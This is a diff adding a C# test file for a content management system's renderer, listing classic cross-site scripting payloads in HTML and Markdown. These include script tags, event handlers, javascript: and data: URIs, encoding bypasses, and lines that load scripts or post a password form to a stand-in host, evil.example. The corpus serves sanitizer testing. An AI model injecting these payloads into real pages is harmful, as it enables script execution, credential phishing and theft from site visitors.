@@ -1,0 +1,71 @@
+namespace StemStl.Cms.Tests.Rendering;
+
+/// <summary>Classic cross-site scripting payloads, as raw HTML and as Markdown.</summary>
+internal static class XssCorpus
+{
+    public static readonly string[] Html =
+    [
+        "<script>alert(1)</script>",
+        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+        "<scr<script>ipt>alert(1)</scr</script>ipt>",
+        "<img src=x onerror=alert(1)>",
+        "<img src=\"javascript:alert(1)\">",
+        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
+        "<svg onload=alert(1)>",
+        "<svg><script>alert(1)</script></svg>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        "<a href=\"javascript:alert(1)\">click</a>",
+        "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
+        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">encoded</a>",
+        "<a href=\"&#x6A;avascript&#x3A;alert(1)\">hex encoded</a>",
+        "<a href=\"java&#09;script:alert(1)\">tab</a>",
+        "<a href=\" javascript:alert(1)\">space</a>",
+        "<a href=\"vbscript:msgbox(1)\">vb</a>",
+        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
+        "<iframe src=\"https://evil.example\"></iframe>",
+        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+        "<object data=\"https://evil.example/x.swf\"></object>",
+        "<embed src=\"https://evil.example/x.swf\">",
+        "<div style=\"width: expression(alert(1))\">ie</div>",
+        "<div style=\"background-image: url(javascript:alert(1))\">bg</div>",
+        "<style>body { background: url(javascript:alert(1)) }</style>",
+        "<form action=\"javascript:alert(1)\"><button>go</button></form>",
+        "<form action=\"https://evil.example/phish\"><input name=password></form>",
+        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+        "<base href=\"https://evil.example/\">",
+        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
+        "<body onload=alert(1)>",
+        "<details open ontoggle=alert(1)>",
+        "<p onmouseover=\"alert(1)\">hover</p>",
+        "<input autofocus onfocus=alert(1)>",
+        "<video><source onerror=\"alert(1)\"></video>",
+        "<marquee onstart=alert(1)>",
+        "<a href=\"https://ok.example\" onclick=\"alert(1)\">ok</a>",
+        "<!--<img src=x onerror=alert(1)>-->",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+        "<table background=\"javascript:alert(1)\"><tr><td>t</td></tr></table>",
+        "<blockquote cite=\"javascript:alert(1)\">quote</blockquote>",
+    ];
+
+    public static readonly string[] Markdown =
+    [
+        "[click](javascript:alert(1))",
+        "[click](JAVASCRIPT:alert(1))",
+        "[click](javascript&#58;alert(1))",
+        "[click](&#x6A;avascript:alert(1))",
+        "[click](<javascript:alert(1)>)",
+        "![img](javascript:alert(1))",
+        "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+        "[ref][1]\n\n[1]: javascript:alert(1)",
+        "<javascript:alert(1)>",
+        "[a](vbscript:msgbox(1))",
+        "Hello <script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "Text{onclick=alert(1)}",
+        "# Title {onmouseover=alert(1)}",
+        "[link](https://ok.example){onclick=alert(1)}",
+        "```html\n<script>alert(1)</script>\n```",
+        "| a |\n|---|\n| <svg onload=alert(1)> |",
+        "<iframe src=https://evil.example></iframe>",
+    ];
+}
